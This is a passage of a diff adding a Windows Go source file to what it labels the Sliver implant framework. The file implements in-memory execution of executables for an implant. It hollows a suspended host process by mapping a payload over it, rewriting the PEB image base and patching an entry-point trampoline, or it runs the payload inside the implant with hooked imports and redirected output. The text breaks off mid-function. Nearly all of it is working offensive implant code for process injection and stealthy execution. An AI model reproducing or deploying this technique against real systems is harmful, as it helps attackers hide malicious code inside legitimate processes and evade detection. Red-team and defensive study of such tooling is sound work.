@@ -0,0 +1,993 @@
+//+build windows
+
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"debug/pe"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"sync"
+	"syscall"
+	"time"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	imageFileRelocsStripped = 0x0001
+	imageFileDLL            = 0x2000
+
+	imageDirEntryImport    = 1
+	imageDirEntryException = 3
+	imageDirEntryBaseReloc = 5
+	imageDirEntryTLS       = 9
+	imageDirEntryCLR       = 14
+
+	imageRelBasedHighLow = 3
+	imageRelBasedDir64   = 10
+
+	imageScnMemExecute = 0x20000000
+	imageScnMemRead    = 0x40000000
+	imageScnMemWrite   = 0x80000000
+
+	processBasicInformation = 0
+)
+
+var (
+	// An executable running inside the implant owns its standard handles,
+	// so only one can run at a time
+	inProcessPEMutex = &sync.Mutex{}
+)
+
+// PEResult - Output and exit status of an executable run from memory
+type PEResult struct {
+	Output   string
+	Pid      int
+	ExitCode int
+	TimedOut bool
+}
+
+// ExecutePE - Run an executable from memory and return its output. By default
+// the executable is mapped over a new suspended procName, if inProcess is set
+// it runs on a thread of the implant instead
+func ExecutePE(procName string, data []byte, name string, args string, inProcess bool, timeout time.Duration) (*PEResult, error) {
+	img, err := parsePE(data)
+	if err != nil {
+		return nil, err
+	}
+	if img.isDLL {
+		return nil, errors.New("Image is a DLL, use sideload or spawndll instead")
+	}
+	if name == "" {
+		name = filepath.Base(procName)
+	}
+	cmdLine := syscall.EscapeArg(name)
+	if args != "" {
+		cmdLine += " " + args
+	}
+	if inProcess {
+		return runPE(img, cmdLine, timeout)
+	}
+	return spawnPE(procName, img, cmdLine, timeout)
+}
+
+// peImage - An executable or DLL laid out the way the loader maps it
+type peImage struct {
+	image         []byte
+	preferredBase uint64
+	entryPoint    uint32
+	is64          bool
+	isDLL         bool
+	relocatable   bool
+	dirs          [16]pe.DataDirectory
+	sections      []*pe.Section
+}
+
+func parsePE(data []byte) (*peImage, error) {
+	file, err := pe.NewFile(bytes.NewReader(data))
+	if err != nil {
+		return nil, err
+	}
+	machine := uint16(pe.IMAGE_FILE_MACHINE_AMD64)
+	if runtime.GOARCH == "386" {
+		machine = pe.IMAGE_FILE_MACHINE_I386
+	}
+	if file.Machine != machine {
+		return nil, fmt.Errorf("Image architecture does not match the implant (%s)", runtime.GOARCH)
+	}
+	img := &peImage{
+		sections: file.Sections,
+		isDLL:    file.Characteristics&imageFileDLL != 0,
+	}
+	var sizeOfImage, sizeOfHeaders uint32
+	switch header := file.OptionalHeader.(type) {
+	case *pe.OptionalHeader64:
+		img.is64 = true
+		img.preferredBase = header.ImageBase
+		img.entryPoint = header.AddressOfEntryPoint
+		sizeOfImage = header.SizeOfImage
+		sizeOfHeaders = header.SizeOfHeaders
+		img.dirs = header.DataDirectory
+	case *pe.OptionalHeader32:
+		img.preferredBase = uint64(header.ImageBase)
+		img.entryPoint = header.AddressOfEntryPoint
+		sizeOfImage = header.SizeOfImage
+		sizeOfHeaders = header.SizeOfHeaders
+		img.dirs = header.DataDirectory
+	default:
+		return nil, errors.New("Image has no optional header")
+	}
+	if img.dirs[imageDirEntryCLR].Size != 0 {
+		return nil, errors.New("Image is a .NET assembly, use execute-assembly instead")
+	}
+	img.relocatable = file.Characteristics&imageFileRelocsStripped == 0 && img.dirs[imageDirEntryBaseReloc].Size != 0
+	if sizeOfHeaders > sizeOfImage || int(sizeOfHeaders) > len(data) {
+		return nil, errors.New("Image headers are malformed")
+	}
+	img.image = make([]byte, sizeOfImage)
+	copy(img.image, data[:sizeOfHeaders])
+	for _, section := range file.Sections {
+		size := section.Size
+		if section.VirtualSize != 0 && section.VirtualSize < size {
+			size = section.VirtualSize
+		}
+		if uint64(section.Offset)+uint64(size) > uint64(len(data)) || uint64(section.VirtualAddress)+uint64(size) > uint64(sizeOfImage) {
+			return nil, fmt.Errorf("Section %s is out of bounds", section.Name)
+		}
+		copy(img.image[section.VirtualAddress:], data[section.Offset:section.Offset+size])
+	}
+	return img, nil
+}
+
+// inImage - Check that size bytes at rva are inside the image
+func (img *peImage) inImage(rva uint64, size uint64) bool {
+	return rva+size <= uint64(len(img.image))
+}
+
+// relocate - Apply base relocations for base and record it as the image base
+// in the headers, so the Windows loader leaves the image where it is
+func (img *peImage) relocate(base uint64) error {
+	delta := base - img.preferredBase
+	dir := img.dirs[imageDirEntryBaseReloc]
+	if delta != 0 && img.relocatable {
+		end := uint64(dir.VirtualAddress) + uint64(dir.Size)
+		if !img.inImage(end, 0) {
+			return errors.New("Image relocations are malformed")
+		}
+		for block := uint64(dir.VirtualAddress); block+8 <= end; {
+			page := uint64(binary.LittleEndian.Uint32(img.image[block:]))
+			blockSize := uint64(binary.LittleEndian.Uint32(img.image[block+4:]))
+			if blockSize < 8 || block+blockSize > end {
+				break
+			}
+			for entry := block + 8; entry+2 <= block+blockSize; entry += 2 {
+				value := binary.LittleEndian.Uint16(img.image[entry:])
+				target := page + uint64(value&0xfff)
+				switch value >> 12 {
+				case imageRelBasedHighLow:
+					if !img.inImage(target, 4) {
+						return errors.New("Image relocations are malformed")
+					}
+					binary.LittleEndian.PutUint32(img.image[target:], binary.LittleEndian.Uint32(img.image[target:])+uint32(delta))
+				case imageRelBasedDir64:
+					if !img.inImage(target, 8) {
+						return errors.New("Image relocations are malformed")
+					}
+					binary.LittleEndian.PutUint64(img.image[target:], binary.LittleEndian.Uint64(img.image[target:])+delta)
+				}
+			}
+			block += blockSize
+		}
+	} else if delta != 0 {
+		return errors.New("Image cannot be relocated")
+	}
+	optionalHeader := uint64(binary.LittleEndian.Uint32(img.image[0x3c:])) + 24
+	if img.is64 {
+		binary.LittleEndian.PutUint64(img.image[optionalHeader+24:], base)
+	} else {
+		binary.LittleEndian.PutUint32(img.image[optionalHeader+28:], uint32(base))
+	}
+	return nil
+}
+
+// protect - Set the page protection of the headers and each section
+func (img *peImage) protect(base uintptr, virtualProtect func(addr uintptr, size uintptr, protect uint32) error) error {
+	err := virtualProtect(base, 0x1000, windows.PAGE_READONLY)
+	if err != nil {
+		return err
+	}
+	for _, section := range img.sections {
+		size := section.VirtualSize
+		if size == 0 {
+			size = section.Size
+		}
+		if size == 0 {
+			continue
+		}
+		err = virtualProtect(base+uintptr(section.VirtualAddress), uintptr(size), sectionProtection(section.Characteristics))
+		if err != nil {
+			return fmt.Errorf("Could not protect section %s: %s", section.Name, err)
+		}
+	}
+	return nil
+}
+
+func sectionProtection(characteristics uint32) uint32 {
+	execute := characteristics&imageScnMemExecute != 0
+	write := characteristics&imageScnMemWrite != 0
+	switch {
+	case execute && write:
+		return windows.PAGE_EXECUTE_READWRITE
+	case execute:
+		return windows.PAGE_EXECUTE_READ
+	case write:
+		return windows.PAGE_READWRITE
+	default:
+		return windows.PAGE_READONLY
+	}
+}
+
+// hasStaticTLS - Implicit TLS slots are only set up for images mapped by
+// the Windows loader
+func (img *peImage) hasStaticTLS() bool {
+	dir := img.dirs[imageDirEntryTLS]
+	size := img.pointerSize()
+	if dir.Size == 0 || !img.inImage(uint64(dir.VirtualAddress), 4*size+8) {
+		return false
+	}
+	tls := img.image[dir.VirtualAddress:]
+	start := img.pointer(tls)
+	end := img.pointer(tls[size:])
+	zeroFill := binary.LittleEndian.Uint32(tls[4*size:])
+	return start < end || zeroFill != 0
+}
+
+func (img *peImage) pointerSize() uint64 {
+	if img.is64 {
+		return 8
+	}
+	return 4
+}
+
+// pointer - Read an address of the image's pointer size
+func (img *peImage) pointer(buf []byte) uint64 {
+	if img.is64 {
+		return binary.LittleEndian.Uint64(buf)
+	}
+	return uint64(binary.LittleEndian.Uint32(buf))
+}
+
+func (img *peImage) putPointer(buf []byte, value uint64) {
+	if img.is64 {
+		binary.LittleEndian.PutUint64(buf, value)
+	} else {
+		binary.LittleEndian.PutUint32(buf, uint32(value))
+	}
+}
+
+// spawnPE - Start procName suspended, map the image over it and point the
+// process at the new image before letting it run. The Windows loader then
+// resolves imports and runs TLS callbacks of the image as it would for any
+// other executable.
+func spawnPE(procName string, img *peImage, cmdLine string, timeout time.Duration) (*PEResult, error) {
+	err := refresh()
+	if err != nil {
+		return nil, err
+	}
+	var output bytes.Buffer
+	cmd := exec.Command(procName)
+	cmd.Stdout = &output
+	cmd.Stderr = &output
+	cmd.SysProcAttr = &windows.SysProcAttr{
+		HideWindow:    true,
+		CreationFlags: windows.CREATE_SUSPENDED,
+		CmdLine:       cmdLine,
+	}
+	err = cmd.Start()
+	if err != nil {
+		//{{if .Debug}}
+		log.Println("Could not start process:", procName)
+		//{{end}}
+		return nil, err
+	}
+	result := &PEResult{Pid: cmd.Process.Pid}
+	// {{if .Debug}}
+	log.Printf("[*] %s started, pid = %d\n", procName, result.Pid)
+	// {{end}}
+	err = hollowProcess(uint32(result.Pid), img)
+	if err != nil {
+		cmd.Process.Kill()
+		cmd.Wait()
+		return result, err
+	}
+
+	done := make(chan struct{})
+	go func() {
+		cmd.Wait()
+		close(done)
+	}()
+	select {
+	case <-done:
+	case <-time.After(timeout):
+		result.TimedOut = true
+		cmd.Process.Kill()
+		<-done
+	}
+	result.ExitCode = cmd.ProcessState.ExitCode()
+	result.Output = output.String()
+	return result, nil
+}
+
+func hollowProcess(pid uint32, img *peImage) error {
+	handle, err := windows.OpenProcess(PROCESS_ALL_ACCESS, false, pid)
+	if err != nil {
+		return err
+	}
+	defer windows.CloseHandle(handle)
+
+	info := syscalls.ProcessBasicInformation{}
+	var infoLen uint32
+	status := syscalls.NtQueryInformationProcess(handle, processBasicInformation, &info, uint32(unsafe.Sizeof(info)), &infoLen)
+	if status != 0 {
+		return fmt.Errorf("NtQueryInformationProcess failed (0x%08x)", status)
+	}
+	// PEB.ImageBaseAddress
+	pebImageBase := info.PebBaseAddress + 0x10
+	pointerSize := 8
+	if !img.is64 {
+		pebImageBase = info.PebBaseAddress + 0x8
+		pointerSize = 4
+	}
+	pointer := make([]byte, 8)
+	err = readProcessMemory(handle, pebImageBase, pointer[:pointerSize])
+	if err != nil {
+		return err
+	}
+	hostBase := uintptr(binary.LittleEndian.Uint64(pointer))
+	headers := make([]byte, 0x1000)
+	err = readProcessMemory(handle, hostBase, headers)
+	if err != nil {
+		return err
+	}
+	ntHeaders := binary.LittleEndian.Uint32(headers[0x3c:])
+	if int(ntHeaders)+0x2c > len(headers) {
+		return errors.New("Host process headers are malformed")
+	}
+	hostEntry := hostBase + uintptr(binary.LittleEndian.Uint32(headers[ntHeaders+0x28:]))
+
+	size := uintptr(len(img.image))
+	base, err := syscalls.VirtualAllocEx(handle, uintptr(img.preferredBase), size, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if err != nil && img.relocatable {
+		base, err = syscalls.VirtualAllocEx(handle, uintptr(0), size, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	}
+	if err != nil {
+		return err
+	}
+	// {{if .Debug}}
+	log.Printf("[*] Mapping image at 0x%08x (host image at 0x%08x)\n", base, hostBase)
+	// {{end}}
+	err = img.relocate(uint64(base))
+	if err != nil {
+		return err
+	}
+	err = writeProcessMemory(handle, base, img.image)
+	if err != nil {
+		return err
+	}
+	err = img.protect(base, func(addr uintptr, size uintptr, protect uint32) error {
+		var oldProtect uint32
+		return syscalls.VirtualProtectEx(handle, addr, size, protect, &oldProtect)
+	})
+	if err != nil {
+		return err
+	}
+	binary.LittleEndian.PutUint64(pointer, uint64(base))
+	err = writeProcessMemory(handle, pebImageBase, pointer[:pointerSize])
+	if err != nil {
+		return err
+	}
+
+	// The main thread still starts at the entry point of the host, which
+	// now jumps to the entry point of the image
+	entry := uint64(base) + uint64(img.entryPoint)
+	var trampoline []byte
+	if img.is64 {
+		trampoline = []byte{0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0} // mov rax, entry; jmp rax
+		binary.LittleEndian.PutUint64(trampoline[2:], entry)
+	} else {
+		trampoline = []byte{0xb8, 0, 0, 0, 0, 0xff, 0xe0} // mov eax, entry; jmp eax
+		binary.LittleEndian.PutUint32(trampoline[1:], uint32(entry))
+	}
+	var oldProtect uint32
+	err = syscalls.VirtualProtectEx(handle, hostEntry, uintptr(len(trampoline)), windows.PAGE_EXECUTE_READWRITE, &oldProtect)
+	if err != nil {
+		return err
+	}
+	err = writeProcessMemory(handle, hostEntry, trampoline)
+	if err != nil {
+		return err
+	}
+	syscalls.VirtualProtectEx(handle, hostEntry, uintptr(len(trampoline)), oldProtect, &oldProtect)
+	return resumeProcess(pid)
+}
+
+// resumeProcess - Resume the threads of a process started suspended
+func resumeProcess(pid uint32) error {
+	snapshot, err := windows.CreateToolhelp32Snapshot(windows.TH32CS_SNAPTHREAD, 0)
+	if err != nil {
+		return err
+	}
+	defer windows.CloseHandle(snapshot)
+	entry := windows.ThreadEntry32{}
+	entry.Size = uint32(unsafe.Sizeof(entry))
+	resumed := 0
+	for err = windows.Thread32First(snapshot, &entry); err == nil; err = windows.Thread32Next(snapshot, &entry) {
+		if entry.OwnerProcessID != pid {
+			continue
+		}
+		thread, err := windows.OpenThread(windows.THREAD_SUSPEND_RESUME, false, entry.ThreadID)
+		if err != nil {
+			continue
+		}
+		if _, err = windows.ResumeThread(thread); err == nil {
+			resumed++
+		}
+		windows.CloseHandle(thread)
+	}
+	if resumed == 0 {
+		return fmt.Errorf("Failed to resume any thread of process %d", pid)
+	}
+	return nil
+}
+
+func readProcessMemory(handle windows.Handle, addr uintptr, buf []byte) error {
+	var n uintptr
+	return syscalls.ReadProcessMemory(handle, addr, &buf[0], uintptr(len(buf)), &n)
+}
+
+func writeProcessMemory(handle windows.Handle, addr uintptr, buf []byte) error {
+	var n uintptr
+	return syscalls.WriteProcessMemory(handle, addr, &buf[0], uintptr(len(buf)), &n)
+}
+
+func localMemory(addr uintptr, size int) []byte {
+	return (*[1 << 30]byte)(unsafe.Pointer(addr))[:size:size]
+}
+
+// runPE - Map the image into the implant and run its entry point on a new
+// thread. Calls that would end the process are redirected to end the thread
+// and the process-wide command line is replaced with cmdLine. The image is
+// never unmapped, the C runtime may keep references to it.
+func runPE(img *peImage, cmdLine string, timeout time.Duration) (*PEResult, error) {
+	if runtime.GOARCH != "amd64" {
+		return nil, errors.New("In-process execution requires a 64-bit implant")
+	}
+	if img.hasStaticTLS() {
+		return nil, errors.New("Image uses static TLS and must run in a sacrificial process")
+	}
+	inProcessPEMutex.Lock()
+	defer inProcessPEMutex.Unlock()
+	err := refresh()
+	if err != nil {
+		return nil, err
+	}
+
+	stubs, err := newPEStubs(cmdLine)
+	if err != nil {
+		return nil, err
+	}
+	base, crts, err := img.mapLocal(stubs)
+	if err != nil {
+		return nil, err
+	}
+	err = stubs.seal()
+	if err != nil {
+		return nil, err
+	}
+
+	output, err := redirectOutput(crts)
+	if err != nil {
+		return nil, err
+	}
+	img.runTLSCallbacks(base)
+	var threadID uint32
+	thread, err := syscalls.CreateThread(nil, 0, base+uintptr(img.entryPoint), uintptr(0), 0, &threadID)
+	if err != nil {
+		output.restore()
+		return nil, err
+	}
+	defer windows.CloseHandle(thread)
+	result := &PEResult{Pid: int(windows.GetCurrentProcessId())}
+	event, _ := windows.WaitForSingleObject(thread, uint32(timeout/time.Millisecond))
+	if event == uint32(windows.WAIT_TIMEOUT) {
+		// Locks held by the thread are never released, later runs that
+		// need them will hang
+		result.TimedOut = true
+		syscalls.TerminateThread(thread, 1)
+		windows.WaitForSingleObject(thread, windows.INFINITE)
+	}
+	var exitCode uint32
+	syscalls.GetExitCodeThread(thread, &exitCode)
+	result.ExitCode = int(int32(exitCode))
+	result.Output = output.restore()
+	return result, nil
+}
+
+// mapLocal - Map the image into the implant, ready to run. Imports listed
+// by stubs are replaced with their stubs, returns the imported modules that
+// are C runtimes.
+func (img *peImage) mapLocal(stubs *peStubs) (uintptr, []windows.Handle, error) {
+	size := uintptr(len(img.image))
+	base, err := windows.VirtualAlloc(uintptr(img.preferredBase), size, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if base == 0 && img.relocatable {
+		base, err = windows.VirtualAlloc(uintptr(0), size, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	}
+	if base == 0 {
+		return 0, nil, err
+	}
+	// {{if .Debug}}
+	log.Printf("[*] Mapping image at 0x%08x\n", base)
+	// {{end}}
+	err = img.relocate(uint64(base))
+	if err != nil {
+		return 0, nil, err
+	}
+	copy(localMemory(base, len(img.image)), img.image)
+	crts, err := resolveImports(base, img, stubs)
+	if err != nil {
+		return 0, nil, err
+	}
+	err = img.protect(base, func(addr uintptr, size uintptr, protect uint32) error {
+		var oldProtect uint32
+		return windows.VirtualProtect(addr, size, protect, &oldProtect)
+	})
+	if err != nil {
+		return 0, nil, err
+	}
+	exceptions := img.dirs[imageDirEntryException]
+	if img.is64 && exceptions.Size != 0 {
+		syscalls.RtlAddFunctionTable(base+uintptr(exceptions.VirtualAddress), exceptions.Size/12, base)
+	}
+	return base, crts, nil
+}
+
+// runTLSCallbacks - Call the TLS callbacks of the image as the loader would
+// for DLL_PROCESS_ATTACH
+func (img *peImage) runTLSCallbacks(base uintptr) {
+	dir := img.dirs[imageDirEntryTLS]
+	size := img.pointerSize()
+	if dir.Size == 0 || !img.inImage(uint64(dir.VirtualAddress), 4*size+8) {
+		return
+	}
+	image := localMemory(base, len(img.image))
+	callbacks := img.pointer(image[uint64(dir.VirtualAddress)+3*size:])
+	if callbacks == 0 {
+		return
+	}
+	for rva := callbacks - uint64(base); img.inImage(rva, size); rva += size {
+		callback := img.pointer(image[rva:])
+		if callback == 0 {
+			break
+		}
+		syscall.Syscall(uintptr(callback), 3, base, 1, 0)
+	}
+}
+
+// resolveImports - Load the DLLs the image imports and fill in its import
+// address table, returns the imported modules that are C runtimes
+func resolveImports(base uintptr, img *peImage, stubs *peStubs) ([]windows.Handle, error) {
+	dir := img.dirs[imageDirEntryImport]
+	if dir.Size == 0 {
+		return nil, nil
+	}
+	image := localMemory(base, len(img.image))
+	crts := []windows.Handle{}
+	seen := map[windows.Handle]bool{}
+	for desc := uint64(dir.VirtualAddress); img.inImage(desc, 20); desc += 20 {
+		nameRVA := binary.LittleEndian.Uint32(image[desc+12:])
+		if nameRVA == 0 {
+			break
+		}
+		dllName := cString(image, nameRVA)
+		module, err := windows.LoadLibrary(dllName)
+		if err != nil {
+			return nil, fmt.Errorf("Could not load %s: %s", dllName, err)
+		}
+		if !seen[module] {
+			seen[module] = true
+			if _, err := windows.GetProcAddress(module, "_dup2"); err == nil {
+				crts = append(crts, module)
+			}
+		}
+		iat := uint64(binary.LittleEndian.Uint32(image[desc+16:]))
+		lookup := uint64(binary.LittleEndian.Uint32(image[desc:]))
+		if lookup == 0 {
+			lookup = iat
+		}
+		size := img.pointerSize()
+		ordinalFlag := uint64(1) << (8*size - 1)
+		for offset := uint64(0); ; offset += size {
+			if !img.inImage(lookup+offset, size) || !img.inImage(iat+offset, size) {
+				return nil, errors.New("Image imports are malformed")
+			}
+			thunk := img.pointer(image[lookup+offset:])
+			if thunk == 0 {
+				break
+			}
+			var proc uintptr
+			var name string
+			if thunk&ordinalFlag != 0 {
+				name = fmt.Sprintf("#%d", thunk&0xffff)
+				proc, err = windows.GetProcAddressByOrdinal(module, uintptr(thunk&0xffff))
+			} else {
+				name = cString(image, uint32(thunk)+2)
+				proc, err = stubs.hook(module, name)
+				if proc == 0 && err == nil {
+					proc, err = windows.GetProcAddress(module, name)
+				}
+			}
+			if err != nil {
+				return nil, fmt.Errorf("Could not resolve %s!%s: %s", dllName, name, err)
+			}
+			img.putPointer(image[iat+offset:], uint64(proc))
+		}
+	}
+	return crts, nil
+}
+
+func cString(image []byte, rva uint32) string {
+	if int(rva) >= len(image) {
+		return ""
+	}
+	end := bytes.IndexByte(image[rva:], 0)
+	if end < 0 {
+		return ""
+	}
+	return string(image[rva : int(rva)+end])
+}
+
+// peStubs - Machine code the import table is pointed at in place of
+// functions that would report the implant's command line or end the process
+type peStubs struct {
+	code     []byte
+	codeAddr uintptr
+	data     []byte
+	dataAddr uintptr
+
+	exitThread uintptr
+	hooks      map[string]uintptr
+	exits      map[windows.Handle]uintptr
+}
+
+func newPEStubs(cmdLine string) (*peStubs, error) {
+	cmdLineW, err := windows.UTF16PtrFromString(cmdLine)
+	if err != nil {
+		return nil, err
+	}
+	var argc int32
+	argvW, err := windows.CommandLineToArgv(cmdLineW, &argc)
+	if err != nil {
+		return nil, err
+	}
+	argv := make([]string, argc)
+	for index := range argv {
+		argv[index] = windows.UTF16ToString(argvW[index][:])
+	}
+	windows.LocalFree(windows.Handle(unsafe.Pointer(argvW)))
+
+	kernel32, err := windows.LoadLibrary("kernel32.dll")
+	if err != nil {
+		return nil, err
+	}
+	exitThread, err := windows.GetProcAddress(kernel32, "ExitThread")
+	if err != nil {
+		return nil, err
+	}
+	dataSize := 0x1000 + 4*len(cmdLine)
+	dataAddr, err := windows.VirtualAlloc(uintptr(0), uintptr(dataSize), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if dataAddr == 0 {
+		return nil, err
+	}
+	codeAddr, err := windows.VirtualAlloc(uintptr(0), 0x1000, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if codeAddr == 0 {
+		return nil, err
+	}
+	stubs := &peStubs{
+		code:       localMemory(codeAddr, 0x1000)[:0],
+		codeAddr:   codeAddr,
+		data:       localMemory(dataAddr, dataSize)[:0],
+		dataAddr:   dataAddr,
+		exitThread: exitThread,
+		hooks:      map[string]uintptr{},
+		exits:      map[windows.Handle]uintptr{},
+	}
+
+	// Data: the command line and argv in both encodings, the slots the
+	// __p___arg* functions return pointers to, and an empty environment
+	argvA := make([]uint64, 0, argc+1)
+	argvWide := make([]uint64, 0, argc+1)
+	for _, arg := range argv {
+		argvA = append(argvA, uint64(stubs.addData(append([]byte(arg), 0))))
+		argvWide = append(argvWide, uint64(stubs.addData(utf16Bytes(arg))))
+	}
+	argvA = append(argvA, 0)
+	argvWide = append(argvWide, 0)
+	cmdLineAAddr := stubs.addData(append([]byte(cmdLine), 0))
+	cmdLineWAddr := stubs.addData(utf16Bytes(cmdLine))
+	argvAAddr := stubs.addData(uint64Bytes(argvA...))
+	argvWAddr := stubs.addData(uint64Bytes(argvWide...))
+	envAddr := stubs.addData(uint64Bytes(0))
+	argcSlot := stubs.addData(uint64Bytes(uint64(argc)))
+	argvSlot := stubs.addData(uint64Bytes(uint64(argvAAddr)))
+	wargvSlot := stubs.addData(uint64Bytes(uint64(argvWAddr)))
+
+	stubs.hooks["ExitProcess"] = exitThread
+	stubs.hooks["GetCommandLineA"] = stubs.returnValue(cmdLineAAddr)
+	stubs.hooks["GetCommandLineW"] = stubs.returnValue(cmdLineWAddr)
+	stubs.hooks["__p___argc"] = stubs.returnValue(argcSlot)
+	stubs.hooks["__p___argv"] = stubs.returnValue(argvSlot)
+	stubs.hooks["__p___wargv"] = stubs.returnValue(wargvSlot)
+	returnZero := stubs.addCode([]byte{0x31, 0xc0, 0xc3}) // xor eax, eax; ret
+	stubs.hooks["_configure_narrow_argv"] = returnZero
+	stubs.hooks["_configure_wide_argv"] = returnZero
+	stubs.hooks["__getmainargs"] = stubs.getMainArgs(argc, argvAAddr, envAddr)
+	stubs.hooks["__wgetmainargs"] = stubs.getMainArgs(argc, argvWAddr, envAddr)
+	return stubs, nil
+}
+
+// hook - The stub for an imported function, zero if it is not hooked
+func (s *peStubs) hook(module windows.Handle, name string) (uintptr, error) {
+	if s == nil {
+		return 0, nil
+	}
+	switch name {
+	case "exit", "_exit", "_Exit", "quick_exit":
+		return s.exit(module)
+	}
+	return s.hooks[name], nil
+}
+
+// exit - exit() flushes the C runtime's streams before ending the thread,
+// atexit handlers are not run
+func (s *peStubs) exit(module windows.Handle) (uintptr, error) {
+	if stub, ok := s.exits[module]; ok {
+		return stub, nil
+	}
+	fflush, err := windows.GetProcAddress(module, "fflush")
+	if err != nil {
+		return 0, err
+	}
+	code := []byte{
+		0x51,                   // push rcx
+		0x48, 0x83, 0xec, 0x20, // sub rsp, 0x20
+		0x31, 0xc9, // xor ecx, ecx
+		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, // mov rax, fflush
+		0xff, 0xd0, // call rax
+		0x48, 0x83, 0xc4, 0x20, // add rsp, 0x20
+		0x59,                   // pop rcx
+		0x48, 0x83, 0xec, 0x28, // sub rsp, 0x28
+		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, // mov rax, ExitThread
+		0xff, 0xd0, // call rax
+	}
+	binary.LittleEndian.PutUint64(code[9:], uint64(fflush))
+	binary.LittleEndian.PutUint64(code[30:], uint64(s.exitThread))
+	s.exits[module] = s.addCode(code)
+	return s.exits[module], nil
+}
+
+// returnValue - A function that returns value
+func (s *peStubs) returnValue(value uintptr) uintptr {
+	code := []byte{0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xc3} // mov rax, value; ret
+	binary.LittleEndian.PutUint64(code[2:], uint64(value))
+	return s.addCode(code)
+}
+
+// getMainArgs - int __getmainargs(int *argc, char ***argv, char ***env, ...)
+func (s *peStubs) getMainArgs(argc int32, argv uintptr, env uintptr) uintptr {
+	code := []byte{
+		0xc7, 0x01, 0, 0, 0, 0, // mov dword [rcx], argc
+		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, // mov rax, argv
+		0x48, 0x89, 0x02, // mov [rdx], rax
+		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, // mov rax, env
+		0x49, 0x89, 0x00, // mov [r8], rax
+		0x31, 0xc0, // xor eax, eax
+		0xc3, // ret
+	}
+	binary.LittleEndian.PutUint32(code[2:], uint32(argc))
+	binary.LittleEndian.PutUint64(code[8:], uint64(argv))
+	binary.LittleEndian.PutUint64(code[21:], uint64(env))
+	return s.addCode(code)
+}
+
+func (s *peStubs) addCode(code []byte) uintptr {
+	addr := s.codeAddr + uintptr(len(s.code))
+	s.code = append(s.code, code...)
+	return addr
+}
+
+func (s *peStubs) addData(data []byte) uintptr {
+	for len(s.data)%8 != 0 {
+		s.data = append(s.data, 0)
+	}
+	addr := s.dataAddr + uintptr(len(s.data))
+	s.data = append(s.data, data...)
+	return addr
+}
+
+// seal - Make the stubs executable once they have all been written
+func (s *peStubs) seal() error {
+	var oldProtect uint32
+	return windows.VirtualProtect(s.codeAddr, 0x1000, windows.PAGE_EXECUTE_READ, &oldProtect)
+}
+
+func utf16Bytes(value string) []byte {
+	encoded, _ := windows.UTF16FromString(value)
+	buf := make([]byte, 2*len(encoded))
+	for index, char := range encoded {
+		binary.LittleEndian.PutUint16(buf[2*index:], char)
+	}
+	return buf
+}
+
+func uint64Bytes(values ...uint64) []byte {
+	buf := make([]byte, 8*len(values))
+	for index, value := range values {
+		binary.LittleEndian.PutUint64(buf[8*index:], value)
+	}
+	return buf
+}
+
+// peOutput - A pipe standing in for the standard handles of the implant and
+// for stdout/stderr of the C runtimes the image imports
+type peOutput struct {
+	read   windows.Handle
+	write  windows.Handle
+	stdout windows.Handle
+	stderr windows.Handle
+	crts   []*crtStreams
+
+	buf   bytes.Buffer
+	mutex sync.Mutex
+	done  chan struct{}
+}
+
+// crtStreams - File descriptors 1 and 2 of a C runtime, saved so they can be
+// put back once the image is done with them
+type crtStreams struct {
+	dup2   uintptr
+	close  uintptr
+	fflush uintptr
+	fd     int
+	saved  [2]int
+}
+
+func redirectOutput(crts []windows.Handle) (*peOutput, error) {
+	output := &peOutput{done: make(chan struct{})}
+	err := windows.CreatePipe(&output.read, &output.write, nil, 0)
+	if err != nil {
+		return nil, err
+	}
+	output.stdout, _ = windows.GetStdHandle(windows.STD_OUTPUT_HANDLE)
+	output.stderr, _ = windows.GetStdHandle(windows.STD_ERROR_HANDLE)
+	windows.SetStdHandle(windows.STD_OUTPUT_HANDLE, output.write)
+	windows.SetStdHandle(windows.STD_ERROR_HANDLE, output.write)
+	for _, module := range crts {
+		streams, err := redirectCRT(module, output.write)
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("Could not redirect C runtime output: %s", err)
+			// {{end}}
+			continue
+		}
+		output.crts = append(output.crts, streams)
+	}
+	go func() {
+		defer close(output.done)
+		defer windows.CloseHandle(output.read)
+		buf := make([]byte, 4096)
+		for {
+			var n uint32
+			err := windows.ReadFile(output.read, buf, &n, nil)
+			if err != nil || n == 0 {
+				return
+			}
+			output.mutex.Lock()
+			output.buf.Write(buf[:n])
+			output.mutex.Unlock()
+		}
+	}()
+	return output, nil
+}
+
+// redirectCRT - Point fd 1 and 2 of a C runtime at a copy of handle
+func redirectCRT(module windows.Handle, handle windows.Handle) (*crtStreams, error) {
+	procs := map[string]uintptr{}
+	for _, name := range []string{"_open_osfhandle", "_dup", "_dup2", "_close", "fflush"} {
+		proc, err := windows.GetProcAddress(module, name)
+		if err != nil {
+			return nil, err
+		}
+		procs[name] = proc
+	}
+	process, _ := windows.GetCurrentProcess()
